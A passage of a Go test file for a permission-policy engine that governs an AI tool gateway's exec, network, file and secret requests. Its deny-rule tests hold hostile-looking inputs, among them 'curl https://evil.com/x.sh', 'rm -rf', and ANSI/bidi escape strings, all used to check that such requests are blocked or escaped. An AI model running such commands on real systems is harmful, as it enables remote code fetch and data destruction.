`, execReq("ls", SurfaceHost), byMode[Deny]},
		{"exclude_execution_surface match", `[[rules.allow]]
rule_id = "r"
capability = "process.exec"
conditions = { exclude_execution_surface = ["host"] }
`, execReq("ls", SurfaceSandbox), allowBy("r")},
		{"exclude_capability miss", `[[rules.allow]]
rule_id = "r"
capability = "network.*"
conditions = { exclude_capability = ["network.http.post", "network.http.p*"] }
`, httpReq("PUT", "a.com"), byMode[Deny]},
		{"exclude_capability match", `[[rules.allow]]
rule_id = "r"
capability = "network.*"
conditions = { exclude_capability = ["network.http.post", "network.http.p*"] }
`, httpReq("GET", "a.com"), allowBy("r")},
		{"method match", `[[rules.allow]]
rule_id = "r"
capability = "network.http.*"
conditions = { method = ["get", "HEAD"] }
`, httpReq("HEAD", "a.com"), allowBy("r")},
		{"method miss", `[[rules.allow]]
rule_id = "r"
capability = "network.http.*"
conditions = { method = ["get", "HEAD"] }
`, httpReq("POST", "a.com"), byMode[Deny]},
		{"method from capability when target has none", `[[rules.deny]]
rule_id = "no-post"
capability = "network.http.*"
conditions = { method = ["POST"] }
[[rules.allow]]
rule_id = "r"
capability = "*"
`, func() Request { r := httpReq("POST", "a.com"); r.Target.Method = ""; return r }(), denyBy("no-post")},
		{"data_classes miss", `[[rules.allow]]
rule_id = "r"
capability = "*"
conditions = { data_classes = ["credential"] }
`, execReq("ls", SurfaceSandbox), byMode[Deny]},
		{"tool_name", `[[rules.allow]]
rule_id = "r"
capability = "*"
target = { tool_name = "read_*" }
`, func() Request { r := fileReq(CapWorkspaceRead, e.in("a")); r.Target.ToolName = "read_file"; return r }(), allowBy("r")},
		{"tool_name miss", `[[rules.allow]]
rule_id = "r"
capability = "*"
target = { tool_name = "read_*" }
`, fileReq(CapWorkspaceRead, e.in("a")), byMode[Deny]},
		{"target field absent from request", `[[rules.allow]]
rule_id = "r"
capability = "*"
target = { host = "*" }
`, execReq("ls", SurfaceSandbox), byMode[Deny]},
		{"resource glob", `[[rules.allow]]
rule_id = "r"
capability = "process.exec"
target = { resource = "go*" }
`, execReq("gofmt -l .", SurfaceSandbox), allowBy("r")},
		{"resource glob crosses /", `[[rules.deny]]
rule_id = "no-rm"
capability = "process.exec"
target = { resource = "*rm" }
[[rules.allow]]
rule_id = "r"
capability = "*"
`, execReq("/bin/rm -rf x", SurfaceSandbox), denyBy("no-rm")},
		{"command with slash", `[[rules.deny]]
rule_id = "no-evil"
capability = "process.exec"
target = { command = "curl *evil.com*" }
[[rules.allow]]
rule_id = "r"
capability = "*"
`, execReq("curl https://evil.com/x.sh", SurfaceSandbox), denyBy("no-evil")},
		{"secret resource", `[[rules.allow]]
rule_id = "r"
capability = "secret.use"
target = { resource = "github" }
`, secretReq("github"), allowBy("r")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			check(t, e.policy(t, "mode = \"strict\"\n"+tt.rules), tt.req, tt.w)
		})
	}
}

func TestAllowPrivate(t *testing.T) {
	e := newEnv(t)
	priv := func(r Request) Request { r.Private = true; return r }
	p := e.policy(t, `mode = "permissive"
[[rules.allow]]
rule_id = "local-api"
capability = "network.http.*"
target = { host = "localhost" }
conditions = { allow_private = true }
[[rules.ask]]
rule_id = "nas"
capability = "network.http.get"
target = { host = "*.lan" }
conditions = { allow_private = true }
[[rules.allow]]
rule_id = "v6"
capability = "network.http.get"
target = { host = "[::1]" }
conditions = { allow_private = true }
[[rules.allow]]
rule_id = "intranet"
capability = "network.http.get"
target = { host = "intranet.example" }
`)
	check(t, p, priv(httpReq("GET", "evil.com")), privateDeny)
	check(t, p, priv(httpReq("GET", "intranet.example")), privateDeny)
	check(t, p, httpReq("GET", "intranet.example"), allowBy("intranet"))
	check(t, p, priv(httpReq("POST", "localhost")), allowBy("local-api"))
	check(t, p, priv(httpReq("GET", "nas.lan")), askBy("nas"))
	check(t, p, priv(httpReq("POST", "nas.lan")), privateDeny)
	check(t, p, priv(httpReq("GET", "::1")), allowBy("v6"))
	check(t, p, priv(httpReq("GET", "::2")), privateDeny)
	if d := p.Decide(priv(httpReq("GET", "localhost"))); !d.AllowPrivate {
		t.Error("AllowPrivate not set")
	}
	if d := p.Decide(httpReq("GET", "localhost")); d.AllowPrivate {
		t.Error("AllowPrivate set for a public request")
	}
}

func TestCanEver(t *testing.T) {
	e := newEnv(t)
	perm := e.policy(t, `profile = "permissive-dev"`)
	for _, c := range Capabilities() {
		want := !(c.IsNetwork() || strings.HasPrefix(string(c), "filesystem.") || c == CapPackageInstall)
		if got := perm.CanEver(c); got != want {
			t.Errorf("permissive-dev CanEver(%s) = %v, want %v", c, got, want)
		}
	}
	strict := e.policy(t, `profile = "strict-production"`)
	inter := e.policy(t, `profile = "interactive-dev"`)
	for _, c := range Capabilities() {
		if strict.CanEver(c) {
			t.Errorf("strict-production without rules CanEver(%s) = true", c)
		}
		if !inter.CanEver(c) {
			t.Errorf("interactive-dev CanEver(%s) = false", c)
		}
	}
	strict2 := e.policy(t, `profile = "strict-production"
[[rules.allow]]
rule_id = "gh"
capability = "network.http.get"
target = { host = "api.github.com" }
`)
	if !strict2.CanEver(CapHTTPGet) || strict2.CanEver(CapHTTPPost) {
		t.Error("strict-production with a GET rule: CanEver wrong")
	}
	if perm.CanEver("nope") || inter.CanEver("") {
		t.Error("CanEver of an unknown capability must be false")
	}
}

func TestSummary(t *testing.T) {
	e := newEnv(t)
	p := e.policy(t, `profile = "interactive-dev"
[[rules.deny]]
rule_id = "no-prod"
capability = "workspace.files.*"
target = { path = "deploy/prod/**" }
[[rules.allow]]
rule_id = "gh"
capability = "network.http.get"
target = { host = "api.github.com" }
`)
	s := p.Summary(CapWorkspaceRead, CapFilesystemRead)
	for _, want := range []string{e.ws, "no-prod", e.in("deploy/prod/**"), "interactive-dev/allow-workspace-read", "interactive-dev/ask-outside-workspace", "mode interactive"} {
		if !strings.Contains(s, want) {
			t.Errorf("Summary lacks %q:\n%s", want, s)
		}
	}
	for _, not := range []string{"(rule gh)", "api.github.com", "ask-network", "allow-ask-user", "allow-workspace-write", "audit log"} {
		if strings.Contains(s, not) {
			t.Errorf("Summary for reads mentions %q:\n%s", not, s)
		}
	}
	s = p.Summary(CapHTTPGet)
	if !strings.Contains(s, "api.github.com") || strings.Contains(s, "no-prod") || !strings.Contains(s, "allow_private") {
		t.Errorf("Summary for http:\n%s", s)
	}
	s = p.Summary(CapWorkspaceWrite)
	if !strings.Contains(s, "git directory's config, hooks") || !strings.Contains(s, "audit log") {
		t.Errorf("Summary for writes lacks the protections:\n%s", s)
	}
	// unknown capabilities neither panic nor list rules
	if s := p.Summary("nope"); strings.Contains(s, "(rule ") {
		t.Errorf("Summary(nope) lists rules:\n%s", s)
	}
}

func TestExplainAndDescribe(t *testing.T) {
	e := newEnv(t)
	p := e.policy(t, `profile = "interactive-dev"`)
	d := p.Decide(execReq("git push origin main", SurfaceHost))
	got := d.Explain()
	want := "process.exec `git push origin main`: ask (reason matched_ask, rule interactive-dev/ask-host-exec, risk high)"
	if got != want {
		t.Errorf("Explain:\n got  %s\n want %s", got, want)
	}
	r := httpReq("GET", "api.github.com")
	r.Target.Path = "/repos"
	if got := r.Describe(); got != "network.http.get api.github.com:443/repos" {
		t.Errorf("Describe = %q", got)
	}
	if got := (Request{Capability: CapUserAsk}).Describe(); got != "user.ask" {
		t.Errorf("Describe = %q", got)
	}
	a, b := execReq("git push", SurfaceSandbox), execReq("git push", SurfaceHost)
	if a.Key() == b.Key() || a.Key() != execReq("git push", SurfaceSandbox).Key() {
		t.Error("Key must tell surfaces apart and be stable")
	}
	for _, r := range p.Rules() {
		if !strings.Contains(r.String(), r.ID) {
			t.Errorf("Rule.String lacks its id: %s", r)
		}
	}
}

func TestModel(t *testing.T) {
	for _, m := range []string{"GET", "get", "Head", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"} {
		if c, ok := HTTPCapability(m); !ok || !c.IsNetwork() {
			t.Errorf("HTTPCapability(%s) = %s, %v", m, c, ok)
		}
	}
	for _, m := range []string{"", "TRACE", "CONNECT", "get.x", "../get"} {
		if c, ok := HTTPCapability(m); ok {
			t.Errorf("HTTPCapability(%q) = %s", m, c)
		}
	}
	for _, r := range []Risk{RiskLow, RiskMedium, RiskHigh, RiskCritical} {
		back, ok := ParseRisk(r.String())
		if !ok || back != r {
			t.Errorf("ParseRisk(%s) = %v, %v", r, back, ok)
		}
	}
	if _, ok := ParseRisk("extreme"); ok {
		t.Error("ParseRisk(extreme) ok")
	}
	if len(Capabilities()) != 17 || len(Reasons()) != 14 {
		t.Errorf("%d capabilities, %d reasons", len(Capabilities()), len(Reasons()))
	}
	if Capability("workspace.files.*").Known() {
		t.Error("a glob is not a known capability")
	}
}

// TestIndexedRulesMatchLinearScan: the per-folder index of path rules picks
// the same rule as trying every rule in order, for path, network and
// command requests alike.
func TestIndexedRulesMatchLinearScan(t *testing.T) {
	e := newEnv(t)
	var src strings.Builder
	src.WriteString("mode = \"strict\"\n")
	patterns := []string{"src/**", "src/**/*.go", "/**/secret*", "docs/*.md", "src", "src/a/b/c.txt", "/opt/x/**", "**/*.txt", "build/**", "/", "deep/a/b/c/**"}
	for i := range 150 {
		effect := []string{"deny", "ask", "allow"}[i%3]
		fmt.Fprintf(&src, "[[rules.%s]]\nrule_id = \"r%d\"\ncapability = \"*\"\n", effect, i)
		switch i % 5 {
		case 0, 1, 2:
			fmt.Fprintf(&src, "target = { path = %q }\n", patterns[i%len(patterns)])
		case 3:
			fmt.Fprintf(&src, "target = { host = \"h%d.example.com\" }\n", i)
		}
	}
	p := e.policy(t, src.String())
	reqs := []Request{
		fileReq(CapWorkspaceRead, e.in("src/a/b/c.txt")), fileReq(CapWorkspaceWrite, e.in("src/main.go")),
		fileReq(CapWorkspaceRead, e.in("docs/x.md")), fileReq(CapWorkspaceRead, e.in("deep/a/b/c/d/e")),
		fileReq(CapWorkspaceRead, e.in("other.txt")), fileReq(CapFilesystemRead, "/opt/x/y"),
		fileReq(CapFilesystemRead, "/etc/secret-stuff"), fileReq(CapWorkspaceRead, e.ws),
		httpReq("GET", "h3.example.com"), httpReq("POST", "nowhere.example"), execReq("ls -la", SurfaceSandbox),
	}
	for _, r := range reqs {
		v := newView(r)
		for effect, l := range map[string]*ruleList{"deny": &p.byCap[v.idx][Deny], "ask": &p.byCap[v.idx][Ask], "allow": &p.byCap[v.idx][Allow]} {
			if l.byBase == nil {
				t.Fatalf("%s list of %s is not indexed; the test needs more path rules", effect, r.Capability)
			}
			var linear *Rule
			for _, rule := range l.all {
				if rule.matchView(&v, p) {
					linear = rule
					break
				}
			}
			if got := firstMatch(l, &v, p); got != linear {
				t.Errorf("%s %s (%s): index picked %v, a scan picks %v", r.Capability, r.Target.Path, effect, ruleID(got), ruleID(linear))
			}
		}
	}
}

func ruleID(r *Rule) string {
	if r == nil {
		return "none"
	}
	return r.ID
}

// TestStateDirOutOfBounds: nothing in the user's state folder (the console
// token, keys) is readable, writable or deletable by any tool, whatever the
// rules say.
func TestStateDirOutOfBounds(t *testing.T) {
	e := newEnv(t)
	t.Setenv("XDG_STATE_HOME", filepath.Join(e.root, "xdg"))
	p := e.policy(t, "mode = \"permissive\"\n[[rules.allow]]\nrule_id = \"all\"\ncapability = \"*\"\n")
	if want := filepath.Join(e.root, "xdg", "onellm-mcp"); p.StateDir != want {
		t.Fatalf("StateDir = %q, want %q", p.StateDir, want)
	}
	deny := want{Deny, ReasonProtectedPath, RuleProtectedPath}
	for _, f := range []string{p.StateDir, filepath.Join(p.StateDir, "console.token"), filepath.Join(p.StateDir, "keys", "k")} {
		for _, c := range []Capability{CapFilesystemRead, CapFilesystemWrite, CapFilesystemDelete} {
			check(t, p, fileReq(c, f), deny)
		}
	}
	check(t, p, fileReq(CapFilesystemRead, filepath.Join(e.root, "xdg", "onellm-mcpx")), allowBy("all"))
}

// TestDescribeEscapesModelText: every kind of target a person reads
// through Describe (prompts, console, stderr, explain) has model-chosen
// control, ANSI and bidi characters escaped.
func TestDescribeEscapesModelText(t *testing.T) {
	const evil = "a\x1b[2K\r\u202eb\u200bc\n"
	web := httpReq("GET", "x"+evil)
	web.Target.Path = "/p" + evil
	pkg := Request{Capability: CapPackageInstall, Target: Target{Resource: "pkg" + evil, Host: "h" + evil}}
	for _, r := range []Request{execReq("ls "+evil, SurfaceSandbox), fileReq(CapWorkspaceRead, "/tmp/"+evil), web, pkg,
		{Capability: CapUserAsk, Target: Target{Resource: evil}}} {
		for _, shown := range []string{r.Describe(), (Decision{Request: r, Effect: Ask}).Explain()} {
			if strings.ContainsAny(shown, "\x1b\r\n\u202e\u200b") {
				t.Errorf("%s: shown raw: %q", r.Capability, shown)
			}
			if !strings.Contains(shown, `\x1b[2K\rU+202Eb`) {
				t.Errorf("%s: escapes missing: %q", r.Capability, shown)
			}
		}
	}
}
